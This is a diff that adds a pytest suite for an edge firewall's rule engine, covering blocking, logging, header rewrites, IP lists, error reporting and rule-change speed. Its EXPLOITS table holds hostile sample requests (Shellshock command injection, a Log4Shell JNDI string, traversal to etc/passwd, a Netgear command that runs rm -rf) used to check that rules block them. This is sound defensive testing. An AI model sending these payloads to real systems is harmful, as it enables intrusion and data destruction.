@@ -1,0 +1,193 @@
+"""Virtual patches: one rule stops an exploit for every device, at once."""
+import json
+import time
+
+import pytest
+
+from edge import until
+
+EXPLOITS = {
+    "shellshock": ('http.user_agent matches r"\\(\\)\\s*\\{"', "/cgi-bin/status", {"User-Agent": "() { :;}; /bin/ping -c1 203.0.113.9"}),
+    "gpon": ('http.request.uri.path eq "/GponForm/diag_Form" and http.request.uri.query contains "images/"',
+             "/GponForm/diag_Form?images/", {}),
+    "traversal": ('url_decode(http.request.uri.path, "r") contains "../"', "/static/..%252f..%252fetc/passwd", {}),
+    "log4shell": ('any(http.request.headers["x-api-version"][*] contains "${jndi:")', "/", {"X-Api-Version": "${jndi:ldap://x/a}"}),
+    "netgear": ('http.request.uri.path wildcard "*/setup.cgi" and http.request.uri.query contains "cmd="',
+                "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*", {}),
+}
+
+
+@pytest.fixture(autouse=True)
+def no_rules(edge):
+    yield
+    edge.ruleset([])
+
+
+@pytest.mark.parametrize("name", EXPLOITS)
+def test_exploit_stops_at_its_rule(edge, origin, app, host, lamp, name):
+    expression, path, headers = EXPLOITS[name]
+    with edge.client(host, lamp) as c:
+        assert c.get(path, *headers.items()).status == 200
+        rule = edge.add_rule(expression, description=name)
+        answer = c.get(path, *headers.items())
+        assert answer.status == 403, answer
+        assert c.get("/readings").status == 200
+    assert [r.path for r in origin.requests].count("/readings") == 1 and len(origin.requests) == 2
+    record = edge.wait_record(Host=host, Action="block")
+    assert record["PolicyID"] == rule and record["PolicyName"] == name and record["DeviceID"] == lamp.id
+
+
+def test_in_force_when_the_api_answers(edge, origin, app, host, lamp):
+    """Every connection, every worker, at the very next request; and out of force just so."""
+    clients = [edge.client(host, lamp) for _ in range(8)]
+    for c in clients:
+        assert c.get("/x").status == 200
+    for _ in range(10):
+        rule = edge.ruleset([{"expression": 'http.request.uri.path eq "/x"', "action": "block"}])
+        assert [c.get("/x").status for c in clients] == [403] * 8
+        edge.api("DELETE", f"/zones/{edge.zone()}/rulesets/{rule['id']}/rules/{rule['rules'][0]['id']}")
+        assert [c.get("/x").status for c in clients] == [200] * 8
+    for c in clients:
+        c.close()
+
+
+def test_custom_response(edge, app, host, lamp):
+    edge.add_rule('http.request.uri.path eq "/gone"', action_parameters={
+        "response": {"status_code": 418, "content": '{"no":"tea"}', "content_type": "application/json"}})
+    answer = edge.get(host, "/gone", lamp)
+    assert answer.status == 418 and answer.json == {"no": "tea"}
+    assert answer.get("content-type") == "application/json"
+
+
+def test_log_passes_and_is_recorded(edge, origin, app, host, lamp):
+    rule = edge.add_rule('http.request.uri.path eq "/watched"', "log")
+    assert edge.get(host, "/watched", lamp).status == 200
+    assert rule in edge.wait_record(Host=host, Path="/watched")["LoggedPolicyIDs"]
+
+
+def test_allow_ends_the_phase(edge, app, host, lamp):
+    edge.ruleset([{"expression": f'device.id eq "{lamp.id}"', "action": "allow"},
+                  {"expression": "true", "action": "block"}])
+    assert edge.get(host, "/", lamp).status == 200
+
+
+def test_skip(edge, app, host, lamp):
+    edge.ruleset([{"expression": 'http.request.method eq "GET"', "action": "skip", "action_parameters": {"ruleset": "current"}},
+                  {"expression": "true", "action": "block"}])
+    with edge.client(host, lamp) as c:
+        assert c.get().status == 200
+        assert c.request("POST", "/", body=b"x").status == 403
+
+
+def test_rewrite_headers(edge, origin, app, host, lamp):
+    edge.ruleset([{"expression": "true", "action": "rewrite", "action_parameters": {"headers": {
+        "X-Fleet": {"operation": "set", "value": "lamps"}, "X-Secret": {"operation": "remove"}}}}],
+        phase="http_request_late_transform")
+    edge.get(host, "/", lamp, [("X-Secret", "1"), ("X-Fleet", "forged")])
+    got = origin.requests[0]
+    assert got.all("x-fleet") == ["lamps"] and got.get("x-secret") is None
+    edge.ruleset([], phase="http_request_late_transform")
+
+
+def test_device_and_tls_fields(edge, origin, app, host, lamp):
+    edge.add_rule('device.class eq "lamps" and tls.client.cert_verified and not cf.tls_client_auth.cert_revoked '
+                  'and http.request.uri.path eq "/mine"')
+    assert edge.get(host, "/mine", lamp).status == 403
+    assert edge.get(host, "/other", lamp).status == 200
+
+
+def test_lists(edge, app, host, lamp):
+    made = edge.api("POST", "/accounts/{account}/rules/lists", {"name": "bad_agents", "kind": "ip"})
+    edge.add_rule("ip.src in $bad_agents")
+    assert edge.get(host, "/", lamp).status == 200
+    edge.api("POST", f"/accounts/{{account}}/rules/lists/{made['id']}/items", [{"ip": "127.0.0.0/8"}])
+    until(lambda: edge.get(host, "/", lamp).status == 403)
+    edge.ruleset([])
+    edge.api("DELETE", f"/accounts/{{account}}/rules/lists/{made['id']}")
+
+
+def test_connection_phase(edge, origin, app, host, lamp):
+    other = edge.device("by-connection")
+    edge.ruleset([{"expression": f'device.id eq "{other.id}"', "action": "block"}], phase="connection")
+    try:
+        try:
+            assert edge.get(host, "/", other).status == 403
+        except (AssertionError, OSError) as error:
+            assert "403" not in str(error)
+        assert not origin.requests
+        assert edge.get(host, "/", lamp).status == 200
+    finally:
+        edge.ruleset([], phase="connection")
+
+
+def test_disabled(edge, app, host, lamp):
+    edge.add_rule("true", enabled=False)
+    assert edge.get(host, "/", lamp).status == 200
+
+
+@pytest.mark.parametrize("expression, words, column", [
+    ('http.hots eq "a"', "http.host", 1),
+    ('http.host eq "a" adn ssl', "and", 18),
+    ('http.host eq', "end", None),
+    ('http.request.method eq 7', "", 24),
+    ('ip.src in $nosuchlist', "nosuchlist", 11),
+    ('startswith(http.host, "a")', "starts_with", 1),
+    ('http.host matches "("', "", 19),
+], ids=lambda v: str(v)[:24].replace("/", ""))
+def test_errors_say_where(edge, expression, words, column):
+    reply = edge.reply("PUT", f"/zones/{edge.zone()}/rulesets/phases/http_request/entrypoint",
+                       {"rules": [{"expression": "true", "action": "log"}, {"expression": expression, "action": "block"}]})
+    assert reply.status == 400
+    error = reply.json["errors"][0]
+    assert error["source"]["pointer"].startswith("/rules/1")
+    assert words.lower() in error["message"].lower(), error
+    if column:
+        assert f"column {column}" in error["message"] or f":{column}:" in error["message"] or f"1:{column}" in error["message"], error
+
+
+def test_bad_change_leaves_the_good_state(edge, app, host, lamp):
+    edge.add_rule('http.request.uri.path eq "/kept"')
+    edge.reply("PUT", f"/zones/{edge.zone()}/rulesets/phases/http_request/entrypoint", {"rules": [{"expression": "nonsense(", "action": "block"}]})
+    assert edge.get(host, "/kept", lamp).status == 403
+
+
+def test_dry_run_changes_nothing(edge, app, host, lamp):
+    reply = edge.reply("PUT", f"/zones/{edge.zone()}/rulesets/phases/http_request/entrypoint?dry_run=true",
+                       {"rules": [{"expression": "true", "action": "block"}]})
+    assert reply.status == 200 and reply.json["result"] is None
+    assert edge.get(host, "/", lamp).status == 200
+
+
+def test_explain(edge, app, host, lamp):
+    edge.ruleset([{"expression": 'http.request.uri.path eq "/a"', "action": "log", "description": "first"},
+                  {"expression": 'http.user_agent contains "evil"', "action": "block", "description": "second"}])
+    told = edge.api("POST", "/accounts/{account}/explain", {"device": lamp.id, "request": {
+        "method": "GET", "host": host, "path": "/a", "headers": {"user-agent": "evil 1.0"}}})
+    text = json.dumps(told)
+    assert text.index("first") < text.index("second")
+    assert "block" in text and "not_matched" not in text.split("second")[1][:400]
+    done = edge.cli("explain", lamp.name, f"GET {host}/a", check=None)
+    assert done.returncode == 0, done
+
+
+def test_operators_tests_gate_apply(edge, app, host, lamp, tmp_path):
+    good = {"tests": [{"name": "exploit", "request": {"method": "GET", "host": host, "path": "/cgi-bin/x"}, "expect": {"action": "block"}},
+                      {"name": "reading", "request": {"method": "POST", "host": host, "path": "/readings"}, "expect": {"action": "pass"}}]}
+    tests = tmp_path / "tests.json"
+    tests.write_text(json.dumps(good))
+    edge.add_rule('http.request.uri.path contains "/cgi-bin/"')
+    done = edge.cli("rule", "test", str(tests))
+    assert done.returncode == 0, done
+    edge.ruleset([{"expression": "true", "action": "block"}])
+    done = edge.cli("rule", "test", str(tests))
+    assert done.returncode == 1 and "reading" in done.stdout + done.stderr, done
+
+
+def test_fast_enough(edge, app, host, lamp):
+    """Rule changes among 2,000 rules: far below any human's patience, sanitizers and all."""
+    edge.ruleset([{"expression": f'http.request.uri.path eq "/p{i}"', "action": "block"} for i in range(2000)])
+    start = time.monotonic()
+    edge.add_rule('http.request.uri.path eq "/now"')
+    took = time.monotonic() - start
+    assert edge.get(host, "/now", lamp).status == 403
+    assert took < 2, f"{took:.3f} s"
